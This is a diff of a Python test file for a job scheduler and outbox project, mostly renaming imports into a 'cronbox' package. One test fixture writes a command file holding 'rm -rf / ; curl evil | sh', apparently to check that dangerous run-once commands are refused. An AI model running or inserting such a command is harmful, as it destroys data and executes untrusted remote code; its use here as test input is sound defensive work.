@@ -12,19 +12,19 @@ from datetime import datetime, timedelta
 import pytest
 from sqlalchemy import event, func, select
 
-from cron.cli import main
-from cron.scheduling import health, once, schedule
-from cron.scheduling.models import AlertState, OnceRequest, ScheduleRun
-from cron.scheduling.schedule import Scheduler, run_task
-from outbox.engine.registry import DEFAULT, Registry
-from cron.scheduling.tick import run_tick
-import outbox
-from outbox.core import clock
-from outbox.core.errors import RegistrationError
-from outbox.core.settings import load_settings
-from outbox.engine.budget import Budget
-from outbox.events.consumers import consumer
-from outbox.queue.models import Job
+from cronbox.cron.cli import main
+from cronbox.cron.scheduling import health, once, schedule
+from cronbox.cron.scheduling.models import AlertState, OnceRequest, ScheduleRun
+from cronbox.cron.scheduling.schedule import Scheduler, run_task
+from cronbox.outbox.engine.registry import DEFAULT, Registry
+from cronbox.cron.scheduling.tick import run_tick
+from cronbox import outbox
+from cronbox.outbox.core import clock
+from cronbox.outbox.core.errors import RegistrationError
+from cronbox.outbox.core.settings import load_settings
+from cronbox.outbox.engine.budget import Budget
+from cronbox.outbox.events.consumers import consumer
+from cronbox.outbox.queue.models import Job
 from tests.conftest import APP_ROOT, ONE_MYSQL_MODE, child_env
 from tests.helpers import deliveries, invoke
 from tests.registries import copy_of
@@ -178,7 +178,7 @@ def requests(runtime) -> list[OnceRequest]:
 
 def test_run_once_files_allowed_refused_garbage_and_young(runtime, registry, settings):
     inbox = settings.instance / "run-once"
-    write_cmd(inbox, "a-migrate.cmd", b"# upgrade after deploy\npython -m cron migrate\n")
+    write_cmd(inbox, "a-migrate.cmd", b"# upgrade after deploy\npython -m cronbox migrate\n")
     write_cmd(inbox, "b-evil.cmd", b"rm -rf / ; curl evil | sh\n")
     write_cmd(inbox, "c-garbage.cmd", b"\xff\xfe\x00binary")
     write_cmd(inbox, "d-quote.cmd", b"queue retry 'unterminated\n")
@@ -287,7 +287,7 @@ def test_health_checks_ok_warn_fail(runtime, registry, settings, monkeypatch):
 
 
 def test_health_thresholds_follow_the_cron_interval(env, runtime):
-    from outbox.engine.runtime import Runtime
+    from cronbox.outbox.engine.runtime import Runtime
 
     coarse = Runtime(load_settings(environ={**env, "CRONBOX_CRON_INTERVAL": "15"}), registry=runtime.registry)
     try:
@@ -312,9 +312,9 @@ def test_health_command_json_and_exit_codes(runtime, env):
 
 
 def test_alerts_at_most_hourly_and_a_recovery_notice_over_real_smtp(env, runtime):
-    from outbox.channels import send_email  # noqa: F401
-    from outbox.engine.runtime import Runtime
-    from outbox.queue.worker import Worker
+    from cronbox.outbox.channels import send_email  # noqa: F401
+    from cronbox.outbox.engine.runtime import Runtime
+    from cronbox.outbox.queue.worker import Worker
     from tests.db.test_channels import Mailbox, free_port
     from aiosmtpd.controller import Controller
 
@@ -391,7 +391,7 @@ def test_anonymous_health_is_cheap_whatever_the_backlog_and_still_fails_at_once(
     """Anonymous GET /health used to count the whole backlog on every call (232 ms at 60k rows)."""
     from sqlalchemy import delete
 
-    from outbox.engine.models import Heartbeat
+    from cronbox.outbox.engine.models import Heartbeat
 
     client = client_for(CRONBOX_HEALTH_TOKEN="s3cret-health")
     engine = client.application.extensions["cronbox"].runtime.engine
@@ -507,7 +507,7 @@ def test_a_busy_once_lock_skips_the_stage_and_the_command(runtime, env, settings
 
 
 def test_health_queue_checks_age_and_failures(runtime):
-    from outbox.queue.jobs import job
+    from cronbox.outbox.queue.jobs import job
 
     registry = Registry()
 
@@ -523,7 +523,7 @@ def test_health_queue_checks_age_and_failures(runtime):
         clock.advance(3 * 3600)
         assert statuses(health.run_checks(runtime))["queue.sms"] == "fail"  # waiting three hours
         runtime.registry = registry
-        from outbox.queue.worker import Worker
+        from cronbox.outbox.queue.worker import Worker
         Worker(runtime, ["sms"]).run(budget())
         report = statuses(health.run_checks(runtime))
     assert report["queue.sms"] == "ok" and report["queue.sms.failed"] == "warn"
